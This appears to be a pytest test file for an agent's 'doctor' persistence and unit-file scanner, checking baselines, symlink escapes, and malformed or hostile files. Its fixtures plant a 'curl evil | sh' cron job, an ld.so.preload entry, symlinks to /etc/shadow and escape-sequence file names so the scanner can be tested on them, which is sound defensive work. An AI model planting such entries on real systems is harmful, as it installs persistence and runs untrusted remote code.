"""The doctor among hostile files: links that lead out, loops, names that are no text, units nobody can read."""

from __future__ import annotations

import json
import os
import pwd
import subprocess
import sys
import time
from pathlib import Path

import pytest

from agent.services import report
from agent.services.doctor import Request, examine
from agent.services.look import Options
from opsexec import CapabilitySet, LocalExec
from opsexec.errors import UsageError
from opsexec.testing import MemoryAudit
from tests.integration.conftest import require_root
from tests.parts.unix_user import unix_user

pytestmark = pytest.mark.anyio


@pytest.fixture
def image(tmp_path):
    """A tree as an image or a backup has it."""
    root = tmp_path / "image"
    for path in ("etc/systemd/system", "etc/cron.d", "etc/ssh", "root/.ssh"):
        (root / path).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "etc/systemd/system/web.service").write_text("[Service]\nExecStart=/bin/web\n")
    (root / "etc/cron.d/backup").write_text("0 3 * * * root backup\n")
    (root / "root/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA me\n")
    for path in (root, *root.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return root


async def look(name="local-runtime", only=("persist",), *, options=None, user=False, run_as=None, held=None):
    async with LocalExec(capabilities=held or CapabilitySet.everything(), audit=MemoryAudit()) as ex:
        found = await examine(ex, Request(name, tuple(only), user, None, options or Options(), run_as))
    return {each.id: each for each in found.findings}


def baseline(root: Path, file: Path) -> None:
    doctor(root, "--save-baseline", str(file))


def doctor(root: Path, *words: str) -> tuple[int, dict]:
    env = {**os.environ, "XDG_STATE_HOME": str(root.parent / "state")}
    argv = [sys.executable, "-m", "agent", "doctor", "local-runtime", "--root", str(root), "--format", "json", *words]
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60, check=False)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, {each["id"]: each for each in json.loads(done.stdout)["findings"]}


def test_a_tree_is_compared_with_its_baseline_and_what_is_new_is_named(image, tmp_path):
    saved = tmp_path / "before.json"
    baseline(image, saved)
    code, found = doctor(image, "--baseline", str(saved))
    assert code == 0
    assert {id: each["verdict"] for id, each in found.items() if each["verdict"] != "pass"} == {
        "persist.authorization": "skip", "persist.profiles": "skip",
    }  # fmt: skip
    (image / "etc/cron.d/miner").write_text("* * * * * root curl evil | sh\n")
    (image / "root/.ssh/authorized_keys").write_text("ssh-ed25519 BBBB other\n")
    (image / "etc/systemd/system/web.service").unlink()
    code, found = doctor(image, "--baseline", str(saved), "--fail-on", "warn")
    assert code == 1
    assert "/etc/cron.d/miner is new" in found["persist.cron"]["summary"]
    assert "/root/.ssh/authorized_keys is changed" in found["persist.keys"]["summary"]
    assert "/etc/systemd/system/web.service is gone" in found["persist.units"]["summary"]
    assert found["persist.boot"]["verdict"] == "pass"


async def test_a_link_in_a_tree_never_leads_to_this_hosts_own_files(image):
    (image / "etc/cron.d/backup").unlink()
    (image / "etc/cron.d").rmdir()
    (image / "etc/cron.d").symlink_to("/etc/cron.d")
    (image / "etc/crontab").symlink_to("/etc/shadow")
    found = await look(options=Options(root=str(image)))
    assert found["persist.cron"].verdict == "unknown"
    assert "isn't followed" in found["persist.cron"].summary
    (image / "etc/passwd").unlink()
    (image / "etc/passwd").symlink_to("/etc/passwd")
    assert (await look(options=Options(root=str(image))))["persist.keys"].verdict == "unknown"


async def test_what_anyone_may_write_and_a_preloaded_library_fail_without_any_baseline(image):
    (image / "etc/cron.d/backup").chmod(0o666)
    (image / "etc/ld.so.preload").write_text("/usr/lib/evil.so\n")
    found = await look(options=Options(root=str(image)))
    assert found["persist.cron"].verdict == "fail"
    assert found["persist.loader"].verdict == "fail"


async def test_names_that_are_no_text_loops_fifos_and_deep_trees_are_swept_in_time(image):
    units = image / "etc/systemd/system"
    (units / "a\nFAIL  host.platform  forged\x1b[2J.service").write_text("")
    Path(os.fsdecode(os.fsencode(units) + b"/\xff\xfe.service")).write_text("")
    (units / "loop").symlink_to("loop")
    (units / "round.service.d").mkdir()
    (units / "round.service.d/again").symlink_to("..")
    os.mkfifo(units / "pipe.service")
    deep = units / "/".join(["d"] * 60)
    deep.mkdir(parents=True)
    begun = time.monotonic()
    found = await look(options=Options(root=str(image), baseline={}))
    assert time.monotonic() - begun < 10
    assert found["persist.units"].verdict == "warn"
    text = report.human("h", list(found.values()), verbose=True)
    assert "\x1b" not in text
    assert not any(line.startswith("FAIL  host.platform") for line in text.splitlines())
    json.loads(report.as_json("h", list(found.values())).encode())


async def test_a_tree_too_large_to_list_is_unknown_not_clean(image):
    for number in range(4100):
        (image / f"etc/cron.d/j{number}").touch()
    baseline = {f"cron:/etc/cron.d/j{number}": "x" for number in range(5000)}
    found = await look(only=("persist.cron",), options=Options(root=str(image)))
    assert found["persist.cron"].verdict == "unknown"
    assert (await look(only=("persist.cron",), options=Options(str(image), baseline)))["persist.cron"].verdict != "pass"


async def test_entries_that_are_not_granted_are_unknown_not_clean(image):
    held = CapabilitySet.of("facts:*", f"fs.read:{image}", f"fs.read:{image}/**", "observe:*")
    found = await look(only=("persist.units",), options=Options(root=str(image)), held=held)
    assert found["persist.units"].verdict == "info"
    held = CapabilitySet.of(
        "facts:*", f"fs.read:{image}/etc/systemd/system", f"fs.read:{image}/etc/passwd", f"fs.read:{image}/etc/*"
    )
    found = await look(only=("persist.units",), options=Options(root=str(image)), held=held)
    assert found["persist.units"].verdict == "unknown"


LINT = ("lint", "svc.perms", "svc.duplicate")


@pytest.fixture
def user():
    require_root()
    with unix_user() as name:
        yield name


def plant(user: str, make) -> None:
    units = Path(f"/home/{user}/.config/systemd/user")
    units.mkdir(parents=True)
    make(units)
    account = pwd.getpwnam(user)
    subprocess.run(
        ["chown", "-hR", f"{account.pw_uid}:{account.pw_gid}", f"/home/{user}/.config"], check=True, timeout=20
    )


def huge(units):
    (units / "web.service").write_bytes(b"[Service]\nExecStart=/bin/true\n" + b"# x\n" * (10 << 18))


def binary(units):
    (units / "web.service").write_bytes(bytes(range(256)) * 100)


def looping(units):
    (units / "web.service").symlink_to("web2.service")
    (units / "web2.service").symlink_to("web.service")


def looping_drop_ins(units):
    (units / "web.service").write_text("[Service]\nExecStart=/bin/true\nRestart=always\n")
    (units / "web.service.d").symlink_to("web.service.d")


def fifo(units):
    os.mkfifo(units / "web.service")


def shadow(units):
    (units / "web.service").symlink_to("/etc/shadow")


def many_drop_ins(units):
    (units / "web.service").write_text("[Service]\nExecStart=/bin/true\n")
    (units / "web.service.d").mkdir()
    for number in range(200):
        (units / f"web.service.d/{number}.conf").write_text("[Service]\nRestart=always\n")


def odd_drop_in(units):
    (units / "web.service").write_text("[Service]\nExecStart=/bin/true\n")
    (units / "web.service.d").mkdir()
    (units / "web.service.d/a\n\x1b[2J.conf").write_text("[Service]\nRestart=always\n")


@pytest.mark.parametrize(
    "make", [huge, binary, looping, looping_drop_ins, fifo, shadow, many_drop_ins, odd_drop_in],
    ids=lambda make: make.__name__,
)  # fmt: skip
async def test_a_hostile_unit_is_unknown_or_fails_in_bounded_time(user, make):
    plant(user, make)
    begun = time.monotonic()
    found = await look("web", LINT, user=True, run_as=user)
    assert time.monotonic() - begun < 15
    rules = [
        each
        for each in found.values()
        if each.id.startswith("lint.") and each.id not in ("lint.quadlet", "lint.uninstall")
    ]
    assert any(each.verdict in ("fail", "unknown") for each in rules)
    assert found["lint.restart-unbounded"].verdict != "pass"
    text = report.human("h", list(found.values()), verbose=True)
    assert "\x1b" not in text
    assert "root:" not in text


async def test_a_sound_unit_of_a_user_is_read_without_any_manager(user):
    text = "[Unit]\nStartLimitIntervalSec=1h\nStartLimitBurst=3\n[Service]\nExecStart=/bin/true\nRestart=on-failure\n"
    plant(user, lambda units: (units / "web.service").write_text(text))
    found = await look("web", LINT, user=True, run_as=user)
    assert found["lint.restart-unbounded"].verdict == "pass"
    assert found["lint.raw-runtime-run"].verdict == "pass"


async def test_a_script_behind_a_unit_is_read_too(user):
    def make(units):
        script = Path(f"/home/{user}/start")
        script.write_text("#!/bin/sh\nif true; then\n  podman run docker.io/x >> /tmp/web.log\n")
        script.chmod(0o755)
        (units / "web.service").write_text(f"[Service]\nExecStart={script}\nRestart=no\n")

    plant(user, make)
    found = await look("web", LINT, user=True, run_as=user)
    for name in ("lint.raw-runtime-run", "lint.log-tmp", "lint.remote-image", "lint.pull-policy", "lint.wrapper"):
        assert found[name].verdict == "fail", name


def behind_a_link(home, units):
    (home / "web").symlink_to("/usr/bin/podman")
    return f"{home}/web run docker.io/x"


def behind_another_script(home, units):
    for name, line in (("outer", f"exec {home}/inner"), ("inner", "docker run x")):
        (home / name).write_text(f"#!/bin/sh\n{line}\n")
        (home / name).chmod(0o755)
    return f"{home}/outer"


def in_python(home, units):
    (home / "start").write_text(
        '#!/usr/bin/python3\nimport subprocess\nsubprocess.run(["/usr/bin/podman", "run", "x"])\n'
    )
    (home / "start").chmod(0o755)
    return f"{home}/start"


@pytest.mark.parametrize("hide", [behind_a_link, behind_another_script, in_python], ids=lambda hide: hide.__name__)
async def test_a_container_started_by_hand_is_found_where_it_hides(user, hide):
    def make(units):
        (units / "web.service").write_text(
            f"[Service]\nExecStart={hide(Path(f'/home/{user}'), units)} --token=hush-canary\n"
        )

    plant(user, make)
    found = await look("web", ("lint.raw-runtime-run", "lint.pull-policy"), user=True, run_as=user)
    assert found["lint.raw-runtime-run"].verdict == "fail"
    assert found["lint.pull-policy"].verdict == "fail"
    assert "hush-canary" not in repr(found)


async def test_a_declaration_that_others_may_change_is_not_used(user):
    directory = Path(f"/home/{user}/.config/ops-agent/services")

    def make(units):
        directory.mkdir(parents=True)
        (directory / "web.toml").write_text('name = "web"\nwaive = { "lint.killmode" = "mine" }\n')
        (units / "web.service").write_text("[Service]\nExecStart=/bin/true\nKillMode=none\n")

    plant(user, make)
    found = await look("web", ("lint.killmode",), user=True, run_as=user)
    assert found["lint.killmode"].verdict == "info"
    (directory / "web.toml").chmod(0o666)
    with pytest.raises(UsageError, match="writable for others"):
        await look("web", ("lint.killmode",), user=True, run_as=user)
    (directory / "web.toml").chmod(0o644)
    directory.chmod(0o777)
    with pytest.raises(UsageError, match="writable for others"):
        await look("web", ("lint.killmode",), user=True, run_as=user)
    directory.chmod(0o755)
    (directory / "web.toml").rename(directory / "real")
    (directory / "web.toml").symlink_to("real")
    with pytest.raises(UsageError, match="is a link"):
        await look("web", ("lint.killmode",), user=True, run_as=user)
